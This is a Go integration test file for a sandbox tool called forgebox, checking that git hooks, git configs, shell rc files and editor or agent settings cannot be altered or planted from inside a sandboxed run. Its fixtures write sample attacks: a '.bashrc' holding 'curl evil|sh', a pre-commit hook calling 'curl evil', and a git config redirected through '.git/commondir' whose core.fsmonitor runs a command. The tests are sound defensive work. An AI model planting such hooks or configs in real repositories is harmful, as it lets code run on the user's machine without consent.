package integration

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// gitRepo makes a repository at dir with one commit, as the mode's user.
func (e *env) gitRepo(dir string) {
	e.t.Helper()
	e.write(filepath.Join(dir, "README"), "hello")
	e.git(dir, "init", "-q")
	e.git(dir, "add", "README")
	e.git(dir, "commit", "-q", "-m", "first")
}

// The hooks and config of the workspace repository, of nested
// repositories and of submodules stay read-only, and the .git directory
// cannot be moved away and replaced. The workspace repository's config is
// a private copy instead (gitconfig_linux_test.go): writes to it succeed,
// and what they add that is not ordinary never reaches the host.
func TestGitMetadataIsProtected(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		nested := filepath.Join(e.ws, "lib", "inner")
		e.gitRepo(nested)
		// Deeper than any bounded scan would look: found through .gitmodules.
		deep := filepath.Join(e.ws, "a", "b", "c", "d", "mod")
		e.gitRepo(deep)
		// A submodule whose .git is a file pointing into .git/modules.
		sm := filepath.Join(e.ws, "sm")
		e.mkdir(sm)
		e.mkdir(filepath.Join(e.ws, ".git", "modules"))
		e.git(e.ws, "init", "-q", "--separate-git-dir", filepath.Join(e.ws, ".git", "modules", "sm"), sm)
		e.write(filepath.Join(e.ws, ".gitmodules"), "[submodule \"mod\"]\n\tpath = a/b/c/d/mod\n\turl = ./x\n[submodule \"sm\"]\n\tpath = sm\n\turl = ./y\n")

		gitDirs := map[string]string{
			"workspace": filepath.Join(e.ws, ".git"),
			"nested":    filepath.Join(nested, ".git"),
			"submodule": filepath.Join(deep, ".git"),
			"modules":   filepath.Join(e.ws, ".git", "modules", "sm"),
		}
		before := map[string]string{}
		for name, g := range gitDirs {
			before[name+" hooks"] = tree(t, filepath.Join(g, "hooks"))
			before[name+" config"] = tree(t, filepath.Join(g, "config")) + snap(t, filepath.Join(g, "config")).content
			t.Run(name, func(t *testing.T) {
				hooks, config := filepath.Join(g, "hooks"), filepath.Join(g, "config")
				ops := []string{
					"write " + filepath.Join(hooks, "pre-commit") + " evil",
					"write " + filepath.Join(hooks, "post-checkout") + " x",
					"chmod " + filepath.Join(hooks, "pre-commit.sample") + " 755",
				}
				configOps := []string{"write " + config + " evil", "append " + config + " evil", "truncate " + config, "chmod " + config + " 777"}
				if name == "workspace" {
					// A key "evil" in [core]: refused after the run.
					allowed(t, e.probe(nil, "append "+config+" evil", "chmod "+config+" 777"))
				} else {
					ops = append(ops, configOps...)
				}
				blocked(t, e.probe(nil, ops...), "EROFS")
				vs := e.probe(nil,
					"unlink "+config,
					"rename "+config+" "+config+".old",
					"rename "+hooks+" "+hooks+".old",
					"rmdir "+hooks,
				)
				blocked(t, vs, "EBUSY")
			})
		}
		// The workspace's .git is pinned: it cannot be swapped for another.
		// Under undo's overlay a directory of the host cannot be renamed
		// at all (EXDEV) and the pin is left out: either refusal holds.
		dotgit := filepath.Join(e.ws, ".git")
		vs := e.probe(nil, "rename "+dotgit+" "+filepath.Join(e.ws, "git-moved"), "rename "+filepath.Join(nested, ".git")+" "+filepath.Join(nested, "git-moved"))
		blocked(t, vs, "EBUSY", "EXDEV")
		// A .git file (a submodule's pointer) cannot be repointed.
		smGit := filepath.Join(sm, ".git")
		smBefore := snap(t, smGit)
		blocked(t, e.probe(nil, "write "+smGit+" gitdir: /tmp/evil"), "EROFS")
		unchanged(t, smGit, smBefore)
		for name, g := range gitDirs {
			if got := tree(t, filepath.Join(g, "hooks")); got != before[name+" hooks"] {
				t.Errorf("%s hooks changed on the host:\n%s", name, got)
			}
			if got := tree(t, filepath.Join(g, "config")) + snap(t, filepath.Join(g, "config")).content; got != before[name+" config"] {
				t.Errorf("%s config changed on the host", name)
			}
		}
		if s := snap(t, dotgit); !s.exists || !s.mode.IsDir() {
			t.Errorf("%s is gone from the host", dotgit)
		}
		_, res := e.runJSON([]string{"--", "true"})
		for name, g := range gitDirs {
			for _, p := range []string{filepath.Join(g, "hooks"), filepath.Join(g, "config")} {
				if name == "workspace" && filepath.Base(p) == "config" {
					if res.Enforced == nil || !slices.Contains(res.Enforced.PrivateCopies, p) {
						t.Errorf("enforced.private_copies does not list %s", p)
					}
					continue
				}
				if res.Enforced == nil || !slices.Contains(res.Enforced.Protected, p) {
					t.Errorf("enforced.protected does not list %s", p)
				}
			}
		}
	})
}

// git add and git commit keep working inside the sandbox, and a hook path
// set through git itself does not reach the host.
func TestGitWorksInside(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		cfg := snap(t, filepath.Join(e.ws, ".git", "config"))
		r := e.sh(`set -e
echo change >> README
echo new > new.txt
git add README new.txt
git -c user.name=x -c user.email=y@example.com commit -q -m inside
git status --porcelain
git config core.hooksPath /tmp`)
		if r.code != 0 {
			t.Fatalf("git in the sandbox: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
		}
		log := e.git(e.ws, "log", "--format=%s")
		if !strings.HasPrefix(log, "inside\n") {
			t.Errorf("git log on the host = %q; want the commit made inside first", log)
		}
		if s := e.git(e.ws, "status", "--porcelain"); s != "" {
			t.Errorf("git status on the host = %q; want clean", s)
		}
		unchanged(t, filepath.Join(e.ws, ".git", "config"), cfg)
	})
}

// Shell rc files and editor or agent configuration in a writable root are
// read-only when they exist.
func TestRcAndEditorConfigProtected(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		extra := filepath.Join(e.dir, "extra")
		e.mkdir(extra)
		files := []string{".bashrc", ".zshrc", ".profile", ".bash_profile", ".envrc", ".mcp.json"}
		dirs := map[string]string{
			".vscode":       "settings.json",
			".idea":         "workspace.xml",
			".claude":       "settings.json",
			".forgebox":     "policy.toml",
			".devcontainer": "devcontainer.json",
		}
		for _, root := range []string{e.ws, extra} {
			for _, f := range files {
				e.write(filepath.Join(root, f), "# original")
			}
			for d, f := range dirs {
				e.write(filepath.Join(root, d, f), "{}")
			}
		}
		before := tree(t, e.ws) + tree(t, extra)
		for _, root := range []string{e.ws, extra} {
			var writes, moves []string
			for _, f := range files {
				p := filepath.Join(root, f)
				writes = append(writes, "write "+p+" evil", "append "+p+" evil", "chmod "+p+" 777")
				moves = append(moves, "unlink "+p, "rename "+p+" "+p+".old")
			}
			for d, f := range dirs {
				p := filepath.Join(root, d)
				writes = append(writes, "write "+filepath.Join(p, f)+" evil", "write "+filepath.Join(p, "tasks.json")+" evil", "mkdir "+filepath.Join(p, "sub"))
				moves = append(moves, "rename "+p+" "+p+".old", "rmdir "+p)
			}
			blocked(t, e.probe([]string{"--rw", extra}, writes...), "EROFS")
			blocked(t, e.probe([]string{"--rw", extra}, moves...), "EBUSY")
		}
		if after := tree(t, e.ws) + tree(t, extra); after != before {
			t.Errorf("protected files changed on the host:\nbefore:\n%s\nafter:\n%s", before, after)
		}
	})
}

var quarantinedName = regexp.MustCompile(`^(.*)\.quarantined-by-forgebox-(\d+)-[0-9a-f]{12}$`)

// A protected name missing at launch may be created, but it does not
// survive the run: forgebox moves it aside, warns and reports it.
func TestCreatedProtectedPathsAreQuarantined(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		start := time.Now().Unix()
		line := `set -e
echo 'curl evil|sh' > .bashrc
echo evil > .envrc
echo '{}' > .mcp.json
mkdir .vscode && echo '{"tasks":"evil"}' > .vscode/tasks.json
mkdir .claude && echo '{}' > .claude/settings.json
echo kept > notes.txt`
		r, res := e.runJSON([]string{"-c", line})
		if res.ExitCode != 0 {
			t.Fatalf("exit %d\nstderr: %s", res.ExitCode, res.Stderr)
		}
		created := []string{".bashrc", ".envrc", ".mcp.json", ".vscode", ".claude"}
		moved := map[string]string{}
		for _, q := range res.Quarantined {
			moved[q.Path] = q.MovedTo
		}
		for _, name := range created {
			p := filepath.Join(e.ws, name)
			if s := snap(t, p); s.exists {
				t.Errorf("%s, created by the command, is still in place after the run", p)
			}
			to, ok := moved[p]
			if !ok {
				t.Errorf("JSON quarantined = %+v; want an entry for %s", res.Quarantined, p)
				continue
			}
			m := quarantinedName.FindStringSubmatch(to)
			if m == nil || m[1] != p {
				t.Errorf("%s moved_to = %q; want %s.quarantined-by-forgebox-<unix seconds>-<12 hex digits>", p, to, p)
				continue
			}
			if secs, _ := strconv.ParseInt(m[2], 10, 64); secs < start || secs > time.Now().Unix()+1 {
				t.Errorf("%s moved_to %q: timestamp %s is not the time of the run", p, to, m[2])
			}
			if s := snap(t, to); !s.exists {
				t.Errorf("%s was reported moved to %s, which does not exist", p, to)
			}
		}
		for _, q := range res.Quarantined {
			if q.Why == "" {
				t.Errorf("quarantined %s: no reason given", q.Path)
			}
		}
		if s := snap(t, filepath.Join(e.ws, "notes.txt")); s.content != "kept\n" {
			t.Errorf("notes.txt = %+v; an ordinary file must stay", s)
		}
		if len(r.stderr) != 0 {
			t.Logf("stderr with --json: %s", r.stderr)
		}

		// Without --json, each quarantined path is announced on stderr.
		r = e.sh("echo evil > .zshrc")
		want := "forgebox: warning: the command created the protected path " + filepath.Join(e.ws, ".zshrc")
		if r.code != 0 || !strings.Contains(r.stderr, want) {
			t.Errorf("exit %d, stderr %q; want it to contain %q", r.code, r.stderr, want)
		}
		if s := snap(t, filepath.Join(e.ws, ".zshrc")); s.exists {
			t.Errorf(".zshrc created by the command is still in place")
		}
	})
}

// A repository created during the run keeps its objects and config, but
// hooks other than git's samples are moved aside.
func TestCreatedHooksAreQuarantined(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		r, res := e.runJSON([]string{"-c", `set -e
git init -q
ls .git/hooks | grep -q sample
printf '#!/bin/sh\ncurl evil\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit`})
		if res.ExitCode != 0 {
			t.Fatalf("exit %d\nstdout: %s\nstderr: %s %s", res.ExitCode, r.stdout, res.Stderr, r.stderr)
		}
		hooks := filepath.Join(e.ws, ".git", "hooks")
		if s := snap(t, filepath.Join(hooks, "pre-commit")); s.exists {
			t.Errorf(".git/hooks/pre-commit, created by the command, is still in place")
		}
		if s := snap(t, filepath.Join(e.ws, ".git", "HEAD")); !s.exists {
			t.Errorf("the repository created by the command is gone: no .git/HEAD")
		}
		samples, _ := filepath.Glob(filepath.Join(hooks, "*.sample"))
		if len(samples) == 0 {
			t.Errorf("the *.sample hooks were moved too")
		}
		found := false
		for _, q := range res.Quarantined {
			if q.Path == filepath.Join(hooks, "pre-commit") {
				found = true
			}
			if strings.HasSuffix(q.Path, ".sample") || q.Path == filepath.Join(e.ws, ".git") {
				t.Errorf("quarantined %s; want only non-sample hooks", q.Path)
			}
		}
		if !found {
			t.Errorf("JSON quarantined = %+v; want .git/hooks/pre-commit", res.Quarantined)
		}
	})
}

// A repository without a hooks directory at launch cannot be given one
// during the run: an editor's background git could run a planted hook
// before the run ends. An empty read-only placeholder holds the name, and
// is gone again afterwards.
func TestMissingHooksDirectoryIsHeld(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		hooks := filepath.Join(e.ws, ".git", "hooks")
		if err := os.RemoveAll(hooks); err != nil {
			t.Fatal(err)
		}
		vs := e.probe(nil, "write "+filepath.Join(hooks, "post-checkout")+" evil", "rmdir "+hooks, "rename "+hooks+" "+hooks+".old")
		blocked(t, vs, "EROFS", "EBUSY")
		if s := snap(t, hooks); s.exists {
			t.Errorf(".git/hooks exists after the run (%+v); the placeholder must be removed", s)
		}
	})
}

// .git/commondir would point Git at another directory's config (and its
// core.fsmonitor): it is held read-only, pointing at the repository itself,
// and Git keeps working inside and outside during the run.
func TestCommondirCannotBeRedirected(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		cd := filepath.Join(e.ws, ".git", "commondir")
		vs := e.probe(nil, "write "+cd+" ../evil", "unlink "+cd, "rename "+cd+" "+cd+".old")
		blocked(t, vs, "EROFS", "EBUSY")
		r := e.sh("git status --short && git -c user.name=a -c user.email=b commit -q --allow-empty -m during")
		if r.code != 0 {
			t.Errorf("git inside the sandbox failed with the commondir placeholder: exit %d\n%s", r.code, r.stderr)
		}
		if s := snap(t, cd); s.exists {
			t.Errorf(".git/commondir is still there after the run: %+v", s)
		}
	})
}

// Quarantine happens on every exit path, a timeout included.
func TestQuarantineAfterTimeout(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		r := e.run([]string{"run", "--timeout", "1s", "--grace", "200ms", "-c", "echo evil > .profile; exec sleep " + marker()})
		if r.code != 124 {
			t.Errorf("exit %d; want 124\nstderr: %s", r.code, r.stderr)
		}
		if s := snap(t, filepath.Join(e.ws, ".profile")); s.exists {
			t.Errorf(".profile created before a timeout is still in place")
		}
	})
}

// Moving aside what the run created must never touch anything outside the
// writable roots: a hooks directory the command replaced with a symlink to
// somewhere else must not lead forgebox (running outside the sandbox) to
// rename files there.
func TestQuarantineStaysInsideWorkspace(t *testing.T) {
	for _, c := range []struct {
		name     string
		existing bool // a repository exists at launch, without hooks
		line     string
	}{
		{"new repository", false, "git init -q && rm -rf .git/hooks && ln -s %s .git/hooks"},
		// refused outright now (the placeholder holds the name); the
		// property checked is the same
		{"repository without hooks", true, "ln -s %s .git/hooks; true"},
	} {
		t.Run(c.name, func(t *testing.T) {
			forEachMode(t, func(t *testing.T, e *env) {
				victims := filepath.Join(e.outside, "hooks")
				e.write(filepath.Join(victims, "pre-push"), "the user's own hook")
				e.write(filepath.Join(victims, "config.toml"), "setting")
				if c.existing {
					e.gitRepo(e.ws)
					os.RemoveAll(filepath.Join(e.ws, ".git", "hooks"))
				}
				before := tree(t, e.outside)
				r := e.sh(fmt.Sprintf(c.line, victims))
				if r.code != 0 {
					t.Fatalf("exit %d\nstderr: %s", r.code, r.stderr)
				}
				if after := tree(t, e.outside); after != before {
					t.Errorf("after the run, forgebox changed files outside the workspace through the command's symlink .git/hooks -> %s:\nbefore:\n%s\nafter:\n%s\nstderr: %s", victims, before, after, r.stderr)
				}
			})
		})
	}
}

// A protected name that is a symlink at launch (dotfile managers make
// those) cannot be bound read-only; the command must still not be able to
// replace it with content of its own that outlives the run.
func TestSymlinkedProtectedNameCannotBeReplaced(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.write(filepath.Join(e.outside, "vscode", "settings.json"), "{}")
		e.write(filepath.Join(e.outside, "envrc"), "export OK=1")
		for name, target := range map[string]string{".vscode": filepath.Join(e.outside, "vscode"), ".envrc": filepath.Join(e.outside, "envrc")} {
			p := filepath.Join(e.ws, name)
			if err := os.Symlink(target, p); err != nil {
				t.Fatal(err)
			}
			e.chown(p)
		}
		r := e.sh("rm -f .vscode .envrc; mkdir .vscode && echo evil > .vscode/tasks.json; echo evil > .envrc; true")
		if r.code != 0 {
			t.Fatalf("exit %d\nstderr: %s", r.code, r.stderr)
		}
		for _, name := range []string{".vscode/tasks.json", ".envrc"} {
			if s := snap(t, filepath.Join(e.ws, name)); s.exists && s.mode.IsRegular() && strings.Contains(s.content, "evil") {
				t.Errorf("%s written by the command survives the run (its protected name was a symlink at launch)\nstderr: %s", name, r.stderr)
			}
		}
	})
}

// The point of a read-only .git/config is that nothing the command plants
// runs when the user next uses git. A .git/commondir file makes git read
// its configuration from another directory, one the command controls: a
// git status on the host after the run must not run what it planted there.
func TestGitConfigCannotBeRedirected(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		pwned := filepath.Join(e.outside, "pwned")
		line := fmt.Sprintf(`set -e
mkdir -p evil
cp -r .git/objects .git/refs .git/HEAD evil/
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch %s; false"\n' > evil/config
echo ../evil > .git/commondir || true`, pwned)
		r := e.sh(line)
		if r.code != 0 {
			t.Fatalf("exit %d\nstderr: %s", r.code, r.stderr)
		}
		e.git(e.ws, "status", "--short") // what the user does next, on the host
		if s := snap(t, pwned); s.exists {
			t.Errorf("git status on the host ran a command the sandboxed command planted: .git/commondir (created in the run: %v) redirected git to a config of its own\nstderr: %s",
				snap(t, filepath.Join(e.ws, ".git", "commondir")).exists, r.stderr)
		}
	})
}

// The quarantine's new name is not predictable: a command that takes the
// names first cannot keep what it planted.
func TestQuarantineNameCannotBeTakenFirst(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		now := time.Now().Unix()
		var take []string
		for i := int64(-2); i < 10; i++ {
			take = append(take, fmt.Sprintf(".envrc.quarantined-by-forgebox-%d", now+i))
		}
		r := e.sh("for n in " + strings.Join(take, " ") + "; do : > $n; done; echo evil > .envrc")
		if r.code != 0 {
			t.Fatalf("exit %d: %s", r.code, r.stderr)
		}
		if s := snap(t, filepath.Join(e.ws, ".envrc")); s.exists {
			t.Errorf(".envrc is still in place (stderr %q)", r.stderr)
		}
	})
}

// A linked worktree's commondir and gitdir decide which repository (and
// config) Git uses in that worktree: they stay read-only.
func TestLinkedWorktreeCannotBeRedirected(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.gitRepo(e.ws)
		e.git(e.ws, "worktree", "add", "-q", filepath.Join(e.outside, "wt"))
		wt := filepath.Join(e.ws, ".git", "worktrees", "wt")
		before := snap(t, filepath.Join(wt, "commondir"))
		blocked(t, e.probe(nil, "write "+filepath.Join(wt, "commondir")+" ../../../evil",
			"write "+filepath.Join(wt, "gitdir")+" /tmp/x"), "EROFS", "EBUSY")
		unchanged(t, filepath.Join(wt, "commondir"), before)
	})
}

// A repository made at the workspace root during the run keeps its objects
// but not a config that runs commands, nor a config.worktree.
func TestNewRepositoryConfigIsVetted(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		r := e.sh("git init -q && git config core.fsmonitor 'touch /x' && git config extensions.worktreeConfig true && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree")
		if r.code != 0 {
			t.Fatalf("exit %d: %s", r.code, r.stderr)
		}
		for _, f := range []string{"config", "config.worktree"} {
			if s := snap(t, filepath.Join(e.ws, ".git", f)); s.exists {
				t.Errorf(".git/%s of a repository made during the run is still in place", f)
			}
		}
		if s := snap(t, filepath.Join(e.ws, ".git", "objects")); !s.exists {
			t.Error("the new repository's objects were moved too; only what executes should go")
		}
		// and a plain `git init` keeps its config
		os.RemoveAll(filepath.Join(e.ws, ".git"))
		if r := e.sh("git init -q"); r.code != 0 {
			t.Fatalf("git init: exit %d: %s", r.code, r.stderr)
		}
		if s := snap(t, filepath.Join(e.ws, ".git", "config")); !s.exists {
			t.Error("the config of a plain git init was moved aside")
		}
	})
}

// A refused workspace is not touched: no placeholders in its repositories.
func TestRefusedWorkspaceIsUntouched(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		repo := filepath.Join(e.home, "proj")
		e.mkdir(repo)
		e.gitRepo(repo)
		before := tree(t, filepath.Join(repo, ".git"))
		r := e.run([]string{"run", "--workspace", e.home, "--", "true"})
		if r.code != 125 {
			t.Fatalf("--workspace $HOME: exit %d; want 125", r.code)
		}
		if after := tree(t, filepath.Join(repo, ".git")); after != before {
			t.Errorf("a refused workspace's repository changed:\nbefore %s\nafter  %s", before, after)
		}
	})
}
